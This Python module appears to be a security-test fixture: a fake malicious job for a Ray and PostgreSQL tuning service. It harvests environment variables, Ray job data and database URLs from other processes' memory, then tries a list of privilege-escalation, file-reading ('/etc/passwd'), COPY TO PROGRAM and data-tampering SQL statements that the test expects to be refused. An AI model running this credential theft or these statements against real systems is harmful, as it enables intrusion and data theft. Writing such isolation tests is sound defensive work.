"""A user's module whose loader tries what a malicious submitter would, and writes down what came of it.

It is sent to the cluster as `thief.py`, beside a project whose functions it uses. It reads all that a process of its
job can read: its environment and that of the processes above it, what Ray tells of jobs, private files, and the memory
of the other processes of the same user.
"""
# ruff: noqa: E501  # a statement is a line

from __future__ import annotations

import json
import os
import re
import urllib.request
from pathlib import Path
from typing import Any

import psycopg

URL = re.compile(rb"postgres(?:ql)?://[^\s\"'\\\x00]+:[^\s\"'\\\x00@]+@[0-9.]+:[0-9]+/[a-z_]+")
STATEMENTS = {
    "tokens": "SELECT * FROM bandstand_store.token",
    "keys": "SELECT * FROM bandstand_store.secret",
    "code": "SELECT * FROM bandstand_store.code",
    "logs": "SELECT * FROM bandstand_store.run_log",
    "servers": "SELECT * FROM bandstand_store.server",
    "passwords": "SELECT * FROM pg_authid",
    "a new token": "INSERT INTO bandstand_store.token (id, digest, user_name, role, expires_at) "
    "VALUES ('abcdefabcdef', 'x', 'mallory', 'admin', now() + interval '1 day')",
    "a column of the tokens": "SELECT digest FROM bandstand_store.token",
    "a lock on the tokens": "BEGIN; LOCK TABLE bandstand_store.token IN ACCESS SHARE MODE",
    "rules off": "SET row_security = off; SELECT * FROM bandstand_store.study",
    "rules dropped": "ALTER TABLE bandstand_store.study DISABLE ROW LEVEL SECURITY",
    "a policy": "CREATE POLICY mine ON bandstand_store.study USING (true)",
    "an owner": "ALTER TABLE bandstand_store.study OWNER TO CURRENT_USER",
    "the owner's role": "SET ROLE team_owner",
    "a superuser's role": "SET ROLE postgres",
    "the owner's session": "SET SESSION AUTHORIZATION team_owner",
    "the other run's role": 'SET ROLE "{other}"',
    "the other run's membership": 'GRANT "{other}" TO CURRENT_USER',
    "more rights": "ALTER ROLE CURRENT_USER SUPERUSER",
    "no rules for me": "ALTER ROLE CURRENT_USER BYPASSRLS",
    "another name": 'ALTER ROLE "{me}" RENAME TO "bandstand-1-1-ffffffffffff"',
    "a role": "CREATE ROLE mallory LOGIN",
    "the owner's password": "ALTER ROLE team_owner PASSWORD 'x'",
    "the other run's password": "ALTER ROLE \"{other}\" PASSWORD 'x'",
    "a function of the store": "CREATE OR REPLACE FUNCTION bandstand_store.is_job() RETURNS boolean LANGUAGE sql AS 'SELECT false'",
    "a function in public": "CREATE FUNCTION public.lower(character varying) RETURNS text LANGUAGE sql AS 'SELECT 1::text'",
    "a table in public": "CREATE TABLE public.alembic (x int)",
    "a schema": "CREATE SCHEMA mine",
    "a program": "COPY (SELECT 1) TO PROGRAM 'touch /srv/owned'",
    "a program's output": "CREATE TEMP TABLE t (x text); COPY t FROM PROGRAM 'id'",
    "a file": "SELECT pg_read_file('/etc/passwd')",
    "a folder": "SELECT pg_ls_dir('.')",
    "a file written": "COPY (SELECT 1) TO '/srv/owned'",
    "a large object of a file": "SELECT lo_import('/etc/passwd')",
    "an extension": "CREATE EXTENSION file_fdw",
    "settings": "ALTER SYSTEM SET log_statement = 'all'",
    "another study's events": "INSERT INTO bandstand_store.event (study_id, seq, kind, data) VALUES ({victim}, 999999, 'x', '{{}}')",
    "another study's measurements": "INSERT INTO bandstand_store.measurement "
    "(study_id, trial, epoch, seq, attempt, metrics) VALUES ({victim}, 0, 999, 999999, 1, '{{}}')",
    "another study's lease": "INSERT INTO bandstand_store.lease (study_id, token, holder) VALUES ({victim}, 'x', 'x')",
    "another study's trial": "INSERT INTO bandstand_store.trial (study_id, number, params, bracket, state, reason, attempt, "
    "epochs, granted, best_epoch) VALUES ({victim}, 999, '{{}}', 0, 'x', '', 1, 0, 0, 0)",
    "another study's Optuna trial": "INSERT INTO trials (trial_id, number, study_id, state) "
    "VALUES (2000000000, 999, {optuna_victim}, 'WAITING')",
    "another study's Optuna note": "INSERT INTO study_user_attributes (study_id, key, value_json) "
    "VALUES ({optuna_victim}, 'x', '1')",
    "another study in Optuna": "INSERT INTO studies (study_name) VALUES ('made by a thief')",
    "my spec": "UPDATE bandstand_store.study SET spec = '{{}}'",
    "my name": "UPDATE bandstand_store.study SET name = 'x'",
    "a study": "INSERT INTO bandstand_store.study (name, optuna_study_id, spec, state) VALUES ('x', 1, '{{}}', 'queued')",
    "a submission": "UPDATE bandstand_store.submission SET priority = 9",
    "my submission's studies": "UPDATE bandstand_store.submission_study SET study_id = {victim}",
    "my events gone": "DELETE FROM bandstand_store.event",
    "my events changed": "UPDATE bandstand_store.event SET kind = 'x'",
    "a run": "INSERT INTO bandstand_store.run (id, submission_id, number, state) VALUES ('x', 1, 9, 'running')",
    "Optuna's version": "UPDATE alembic_version SET version_num = 'x'",
    "our version": "UPDATE bandstand_store.alembic_version SET version_num = 'x'",
    "statistics": "SELECT * FROM pg_statistic",
}
"""By what they are after; each must be refused."""
SEEN = {
    "studies": "SELECT name FROM bandstand_store.study",
    "studies with the settings set": "SET bandstand.job = 'x'; SET search_path = bandstand_store, public; SELECT name FROM study",
    "studies as the group": "SET ROLE {group}; SELECT name FROM bandstand_store.study",
    "studies with the role reset": "SET ROLE {group}; RESET ROLE; RESET SESSION AUTHORIZATION; SELECT name FROM bandstand_store.study",
    "submissions": "SELECT name FROM bandstand_store.submission",
    "runs": "SELECT id FROM bandstand_store.run",
    "comparisons": "SELECT name FROM bandstand_store.comparison",
    "studies with events": "SELECT DISTINCT name FROM bandstand_store.event JOIN bandstand_store.study ON id = study_id",
    "other studies' events": "SELECT seq FROM bandstand_store.event WHERE study_id = {victim}",
    "other studies' measurements": "SELECT seq FROM bandstand_store.measurement WHERE study_id = {victim}",
    "Optuna's studies": "SELECT study_name FROM studies",
    "other studies' Optuna trials": "SELECT trial_id FROM trials WHERE study_id = {optuna_victim}",
    "other studies' Optuna params": "SELECT p.trial_id FROM trial_params p LEFT JOIN trials t USING (trial_id) "
    "WHERE t.study_id IS NULL OR t.study_id = {optuna_victim}",
    "other studies' Optuna values": "SELECT v.trial_id FROM trial_intermediate_values v LEFT JOIN trials t USING (trial_id) "
    "WHERE t.study_id IS NULL OR t.study_id = {optuna_victim}",
    "others' statements": "SELECT usename FROM pg_stat_activity WHERE query NOT IN ('', '<insufficient privilege>') "
    "AND usename <> session_user",
    "values in statistics": "SELECT DISTINCT tablename FROM pg_stats WHERE schemaname IN ('bandstand_store', 'public')",
    "others changed": "UPDATE bandstand_store.study SET state = 'failed' WHERE id = {victim} RETURNING name",
    "others' Optuna studies changed": "UPDATE studies SET study_name = 'gone' WHERE study_id = {optuna_victim} RETURNING study_id",
    "other runs changed": "UPDATE bandstand_store.run SET state = 'failed' WHERE id = '{other}' RETURNING id",
    "a replayed study's data": "SELECT code FROM bandstand_store.replayed('victim', 'code_seen') code WHERE code IS NOT NULL",
    "sessions ended": "SELECT pid FROM pg_stat_activity WHERE usename <> session_user AND pg_has_role(usename::name, 'USAGE')",
}
"""Harmless questions; what they answer is written down."""


def load() -> Any:
    """The loader of the study's data: the thief, on its first call, and then the data."""
    from project import load as load_data

    place = Path(os.environ["THIEF"])
    if not place.exists():
        place.with_suffix(".new").write_text(json.dumps(steal()))
        place.with_suffix(".new").replace(place)
    return load_data()


def steal() -> dict[str, Any]:
    """Everything that was found and tried."""
    environments = [dict(os.environ), *map(environment_of, ancestors())]
    shown = json.dumps([environments, command_lines(), jobs(), private_files()])
    found = sorted({url.decode() for url in URL.findall(shown.encode())})
    live = sorted({url.decode() for process in family() for url in URL.findall(memory_of(process))})
    # With the other job's login, out of that one's memory, it would be that job: one user of one machine is not kept
    # from another process of the same user.
    urls = [url for url in sorted({*found, *live}) if read_about()["other"] not in url and gets_in(url)]
    return {
        "shown": shown,
        "found": found,
        "live": urls,
        "tried": [dict.fromkeys(["user"], url.split("/")[2].split(":")[0]) | attack(url) for url in urls],
    }


def attack(url: str) -> dict[str, Any]:
    about = read_about() | {"me": url.split("/")[2].split(":")[0]}
    with psycopg.connect(url, autocommit=True) as connection:
        about["group"] = connection.execute(
            "SELECT rolname FROM pg_roles WHERE rolname LIKE 'bandstand_jobs%' AND pg_has_role(oid, 'MEMBER')"
        ).fetchone()[0]
    return {
        "done": sorted(what for what, text in STATEMENTS.items() if answer(url, text.format(**about)) is not None),
        "seen": {what: answer(url, text.format(**about)) for what, text in SEEN.items()},
    }


def answer(url: str, statements: str) -> list[str] | None:
    """The first column of the last statement's rows; None where it was refused."""
    with psycopg.connect(url, autocommit=True) as connection:
        try:
            cursor = connection.execute(statements)
            while cursor.nextset():
                pass
            return sorted(str(row[0]) for row in cursor) if cursor.description else []
        except psycopg.Error as error:
            if error.sqlstate not in ("42501", "0A000", "23514"):  # insufficient privilege
                return [f"not refused for its rights, but: {error}"]
            return None


def read_about() -> dict[str, Any]:
    """What the test knows, and a thief might find out: ids of the other study and its run."""
    return dict(json.loads(Path(os.environ["THIEF_ABOUT"]).read_text()))


def gets_in(url: str) -> bool:
    try:
        psycopg.connect(url, connect_timeout=5).close()
    except psycopg.Error:
        return False
    return True


def ancestors() -> list[int]:
    found, pid = [], os.getpid()
    while pid > 1:
        found.append(pid)
        pid = int(Path(f"/proc/{pid}/stat").read_text().rpartition(")")[2].split()[1])
        if "pytest" in Path(f"/proc/{pid}/cmdline").read_text():
            break  # the test itself is above the cluster
    return found


def family() -> list[int]:
    """The processes of this machine's Ray: its own session's coordinators, trainers and drivers."""
    return [
        int(path.name)
        for path in Path("/proc").glob("[0-9]*")
        if re.match(rb"ray::(Coordinator|Trainer)|.*bandstand_workers\0job\0", cmdline(path))
        and os.environ["THIEF"].encode() in environment_bytes(path)
    ]


def environment_bytes(path: Path) -> bytes:
    try:
        return (path / "environ").read_bytes()
    except OSError:
        return b""


def cmdline(path: Path) -> bytes:
    try:
        return (path / "cmdline").read_bytes()
    except OSError:
        return b""


def environment_of(pid: int) -> dict[str, str]:
    parts = environment_bytes(Path(f"/proc/{pid}")).split(b"\0")
    return dict(part.decode(errors="replace").partition("=")[::2] for part in parts if part)


def command_lines() -> list[str]:
    return [cmdline(path).decode(errors="replace") for path in Path("/proc").glob("[0-9]*")]


def memory_of(pid: int) -> bytes:
    """What of a process's memory looks like a URL of a database."""
    found = []
    try:
        maps = Path(f"/proc/{pid}/maps").read_text().splitlines()
        with Path(f"/proc/{pid}/mem").open("rb", 0) as memory:
            for line in maps:
                where, rights, *_ = line.split()
                if rights.startswith("rw") and "/dev/shm" not in line:
                    begin, end = (int(each, 16) for each in where.split("-"))
                    try:
                        memory.seek(begin)
                        found += URL.findall(memory.read(end - begin))
                    except (OSError, ValueError):
                        continue
    except OSError:
        pass
    return b" ".join(found)


def jobs() -> Any:
    """What Ray tells whoever has its token, as each of its processes does."""
    ask = urllib.request.Request(os.environ["THIEF_JOBS"] + "/api/jobs/")
    ask.add_header("Authorization", "Bearer " + os.environ["RAY_AUTH_TOKEN"])
    with urllib.request.urlopen(ask, timeout=30) as told:
        return json.load(told)


def private_files() -> list[str]:
    """Files of this user that hand something over."""
    found = []
    for path in Path("/tmp").glob("bandstand-*"):
        try:
            found.append(path.read_text(errors="replace"))
        except OSError:
            continue
    return found
